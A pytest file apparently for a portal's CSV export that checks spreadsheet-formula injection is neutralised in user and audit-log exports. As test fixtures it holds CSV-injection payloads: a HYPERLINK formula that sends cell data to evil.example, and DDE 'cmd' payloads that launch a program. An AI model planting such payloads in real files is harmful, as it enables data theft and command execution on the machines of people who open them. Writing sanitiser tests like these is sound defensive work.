"""Exports are safe to open in a spreadsheet: no cell a user typed can become a formula."""

import csv
import io

import pytest

from harmony_portal.services.audit import admin_log as audit_log
from harmony_portal.services.audit import trail as audit
from harmony_portal.services.csv_export import safe_cell, to_csv
from harmony_portal.services.errors import Invalid
from harmony_portal.services.roles import queries as role_queries
from harmony_portal.services.signin import authentication

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for your badge")'


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1",
                                   "\r=1+1", "|cmd '/C calc'!A0", "%0A=1+1"])
def test_a_cell_that_could_start_a_formula_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(("value", "expected"), [
    ("Pamela", "Pamela"), ("so.one@example.org", "so.one@example.org"), ("O'Brien", "O'Brien"),
    ("2026-11-18T18:00:00+00:00", "2026-11-18T18:00:00+00:00"), (42, "42"), (None, ""), ("", ""),
    ("a=b", "a=b"), ("50%", "50%"), ("a|b", "a|b"),
])
def test_ordinary_values_are_left_alone(value, expected):
    assert safe_cell(value) == expected


def test_to_csv_neutralises_header_and_rows():
    rows = _cells(to_csv(["=Name"], [[HYPERLINK], ["Ann"]]))
    assert rows == [["'=Name"], ["'" + HYPERLINK], ["Ann"]]


def test_user_lookup_export_neutralises_names_people_typed(session, make):
    org = make.org(session, "A1", "Alpha Care")
    official = make.user(session, "so.one")
    make.grant(session, official, org)
    attacker = make.user(session, "provider.x", first_name=HYPERLINK, last_name="-2+3")
    make.grant(session, attacker, org, "Staff")
    rows = _cells(role_queries.export_csv(session, official, "A1"))
    row = next(r for r in rows if r[1] == "provider.x")
    assert row[2] == "'" + HYPERLINK and row[3] == "'-2+3"
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def _audit_export(session, admin) -> list[list[str]]:
    from contextlib import nullcontext

    everything = audit_log.parse_filter(session, admin, {})
    upto = audit_log.begin_export(session, admin, everything)
    return _cells("".join(audit_log.export_chunks(lambda: nullcontext(session), everything, upto)))


def test_audit_export_neutralises_what_people_typed(session, make):
    admin = make.user(session, "desk", is_admin=True)
    with pytest.raises(Invalid):  # an unknown User ID is kept only as a keyed digest now
        authentication.check_password(session, "=cmd|' /C calc'!A0", "wrong password")
    audit.record(session, "organization.added", actor_id=admin.id, target="=cmd|' /C calc'!A0")
    rows = _audit_export(session, admin)
    column = rows[0].index("target")
    targets = [r[column] for r in rows]
    assert "'=cmd|' /C calc'!A0" in targets
    assert not any("cmd|" in t for t in targets if not t.startswith("'"))


def test_the_audit_log_names_people_by_user_id_and_name(session, make):
    admin = make.user(session, "desk.two", first_name="Dana", last_name="Desk", is_admin=True)
    audit.record(session, "account.unlocked", actor_id=admin.id, subject_user_id=admin.id)
    everything = audit_log.parse_filter(session, admin, {})
    (latest, *_rest) = audit_log.audit_page(session, admin, everything).rows
    assert latest["actor"] == latest["subject"] == "desk.two (Dana Desk)"
    rows = _audit_export(session, admin)
    assert "desk.two (Dana Desk)" in rows[-1][rows[0].index("actor")]
